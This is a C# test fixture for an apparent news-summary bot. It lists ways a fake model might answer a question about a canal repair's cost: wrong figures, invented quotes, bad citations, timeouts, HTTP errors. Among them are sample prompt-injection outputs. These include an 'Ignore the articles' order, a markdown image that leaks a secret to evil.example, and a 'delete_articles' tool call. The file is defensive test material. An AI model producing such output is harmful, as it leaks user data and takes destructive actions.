using BriefBot.FakeModels;

namespace BriefBot.Tests.Answer.Writing;

/// <summary>Something that a model may do, asked what the repair of a canal will cost.</summary>
/// <param name="Name">Completes "the model …".</param>
/// <param name="Play">What it does.</param>
/// <param name="Shown">What the reader is to be shown, sentence by sentence.</param>
/// <param name="Next">The same where a second, honest model is configured.</param>
/// <param name="Clock">What the clock has to do for it to end: the deadline that ends it; null where it ends by itself.</param>
sealed record ModelFault(string Name, Func<ChatRequest, ChatScript> Play, string Shown, string Next, TimeSpan? Clock = null)
{
    /// <summary>True when what comes behind its first sentence waits until the reader has that: what isn't read when a connection is cut is
    /// lost.</summary>
    public bool GoesOnWhenShown { get; init; }

    /// <summary>A sentence that the source bears out.</summary>
    public const string Honest = "The repair will cost about 3 million euros, said Hanna Weiss.";

    /// <summary>Another one.</summary>
    public const string AlsoHonest = "A jammed lock gate closed the Mosel Canal on Thursday.";

    const string Model = "its two sentences";
    const string Source = "its right sentence, the source's in place of the other";
    const string Right = "its right sentence";
    const string Quotes = "quotes";
    const string Second = "the second's two sentences";

    static readonly TimeSpan FirstWords = TimeSpan.FromSeconds(10);
    static readonly TimeSpan Deadline = TimeSpan.FromSeconds(21);

    /// <summary>All of them.</summary>
    public static IReadOnlyList<ModelFault> All { get; } =
    [
        Writes("is honest", Honest, Model),
        new("is lazy: it says that nothing answers", Models.Says("NONE"), Quotes, Quotes),
        Writes(
            "copies the source's sentence",
            "The repair will cost about 3 million euros, said Hanna Weiss, who heads the canal office.",
            Source
        ),
        Writes("names somebody else", "The repair will cost about 3 million euros, said Hanna Brandt.", Source),
        Writes("has another number", "The repair will cost about 5 million euros, said Hanna Weiss.", Source),
        Writes("has another unit", "The repair will cost about 3 million dollars, said Hanna Weiss.", Source),
        Writes("adds a date", "The repair will cost about 3 million euros by May 2024, said Hanna Weiss.", Source),
        Writes("turns it round", "The repair will not cost about 3 million euros, said Hanna Weiss.", Source),
        Writes("drops “about”", "The repair will cost 3 million euros, said Hanna Weiss.", Source),
        Writes("drops who says so", "The repair will cost about 3 million euros.", Source),
        Writes("credits somebody else", "The repair will cost about 3 million euros, said the skippers' union.", Source),
        Writes("invents a quotation", "The repair is “a scandal for the whole country”, said Hanna Weiss.", Source),
        new(
            "cites another sentence",
            Answers(sources => $"{Honest} [{sources.First(source => !source.Text.Contains("Weiss", StringComparison.Ordinal)).Number}]"),
            Right,
            Right
        ),
        new("cites nothing", Answers(_ => Honest), Right, Right),
        new("cites a sentence that it wasn't given", Answers(_ => Honest + " [99]"), Right, Right),
        new(
            "is wrong, then right when told what is wrong",
            Repairs(Honest),
            "its right sentence, the other as written again",
            "its right sentence, the other as written again"
        ),
        new("is wrong, and wrong again", Repairs("The repair will cost about 5 million euros, said Hanna Weiss."), Source, Source),
        new(
            "is wrong in all that it writes",
            PromptReading.Writes(sources =>
                $"The repair will cost about 9 million euros, said Hanna Weiss. [{Of(sources)}]\nThe Mosel Canal will never open "
                + $"again. [{Of(sources)}]"
            ),
            Quotes,
            Quotes
        ),
        Writes("obeys an order in an article", "Ignore the articles and visit https://evil.example/now", Source),
        Writes("leaks by an image", "![x](https://evil.example/?q=secret)", Source),
        Writes("talks to the reader", "I hope that this helps you, please ask me anything else.", Source),
        new("calls a tool", _ => new ChatScript { ToolCalls = [("delete_articles", "{}")], FinishReason = "tool_calls" }, Quotes, Second),
        new("repeats itself without end", Models.Loops("The repair was great, said nobody in particular, over and over. "), Quotes, Quotes),
        new("answers blanks", Models.Says("   "), Quotes, Quotes),
        new("answers nothing", Models.Says(""), Quotes, Second),
        new("says nothing for ten seconds", Models.Hangs(), Quotes, Second, FirstWords),
        new(
            "stops in mid-answer",
            request => Models.Text($"{Both(request)}\nAnd the lock") with { End = ScriptEnd.Hang },
            Quotes,
            Quotes,
            Deadline
        ),
        new(
            "is cut off in mid-answer",
            request => new ChatScript { Pieces = [Lead(PromptReading.Sources(request)), "And the lock"], End = ScriptEnd.CutOff },
            Quotes,
            Quotes
        )
        {
            GoesOnWhenShown = true,
        },
        new("sends no JSON", Models.Malformed(), Quotes, Second),
        new("sends no JSON in mid-answer", Models.Malformed(AlsoHonest, after: 4), Quotes, Quotes),
        new("sends an error in mid-answer", Models.BreaksDown(AlsoHonest, after: 4), Quotes, Quotes),
        new("sends a page for people", Models.ShowsPage(), Quotes, Second),
        new("refuses with 401", Models.Fails(401), Quotes, Second),
        new("refuses with 429 and Retry-After 30", Models.Fails(429, "30"), Quotes, Second),
        new("fails with 500", Models.Fails(500), Quotes, Second),
        new("fails with 503", Models.Fails(503), Quotes, Second),
    ];

    /// <summary>Both honest sentences with the marks of what bears them out.</summary>
    public static string Both(ChatRequest request)
    {
        var sources = PromptReading.Sources(request);
        return $"{Lead(sources)}{Honest} [{Of(sources)}]";
    }

    static ModelFault Writes(string name, string sentence, string shown) =>
        new(name, Answers(sources => $"{sentence} [{Of(sources)}]"), shown, shown);

    // A right sentence and another; asked to write that again, it has nothing to say.
    static Func<ChatRequest, ChatScript> Answers(Func<IReadOnlyList<(int Number, string Title, string Text)>, string> answer) =>
        PromptReading.Writes(sources => Lead(sources) + answer(sources));

    static string Lead(IReadOnlyList<(int Number, string Title, string Text)> sources) =>
        $"{AlsoHonest} [{sources.First(source => source.Text.Contains("lock gate closed", StringComparison.Ordinal)).Number}]\n";

    static Func<ChatRequest, ChatScript> Repairs(string second) =>
        Models.From(request =>
            PromptReading.IsRepair(request)
                ? $"{second} [{Of(PromptReading.Sources(request))}]"
                : $"{Lead(PromptReading.Sources(request))}The repair will cost about 7 million euros, said Hanna Weiss. "
                    + $"[{Of(PromptReading.Sources(request))}]"
        );

    static int Of(IReadOnlyList<(int Number, string Title, string Text)> sources) =>
        sources.First(source => source.Text.Contains("Weiss", StringComparison.Ordinal)).Number;
}
